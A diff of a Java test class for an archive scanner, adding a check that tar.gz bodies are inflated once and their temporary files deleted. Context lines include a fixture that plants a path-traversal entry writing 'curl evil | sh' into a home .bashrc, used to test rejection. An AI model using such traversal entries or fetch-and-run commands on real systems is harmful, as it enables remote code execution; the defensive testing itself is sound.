@@ -48,6 +48,27 @@ class TarScanTest {
     }
 
     @Test
+    void aTarGzIsInflatedOnceForEveryStageAndItsBodyIsDeletedAfterTheScan() throws IOException {
+        byte[] tar = Folders.pack(Folders.sharded(), Folders.Container.TAR);
+        Path tmp = Path.of(System.getProperty("java.io.tmpdir"));
+        long before = spooled(tmp);
+        ScanReport r = scan(Folders.pack(Folders.sharded(), Folders.Container.TGZ));
+        assertThat(r.verdict()).isEqualTo(ScanVerdict.PASS);
+        assertThat(r.format()).isEqualTo(Format.MODEL_FOLDER);
+        assertThat(r.stage(ScanEngine.FORMAT_GATE).orElseThrow().details().get("gzipBody"))
+                .startsWith("inflated once (" + tar.length + " bytes)");
+        // the folder rules ran over the kept body: both shards validated
+        assertThat(r.stage(ScanEngine.FOLDER_SCAN).orElseThrow().details()).containsEntry("folder.safetensorsValidated", "2");
+        assertThat(spooled(tmp)).isEqualTo(before);
+    }
+
+    private static long spooled(Path tmp) throws IOException {
+        try (java.util.stream.Stream<Path> s = Files.list(tmp)) {
+            return s.filter(p -> p.getFileName().toString().endsWith(".gunzip")).count();
+        }
+    }
+
+    @Test
     void archiveTricksInATarGzRejectAtTheStaticScan() throws IOException {
         byte[] traversal = TarBuilder.tar().file("config.json", "{}").file("../../home/u/.bashrc", "curl evil | sh\n").gzipped();
         ScanReport r = scan(traversal);
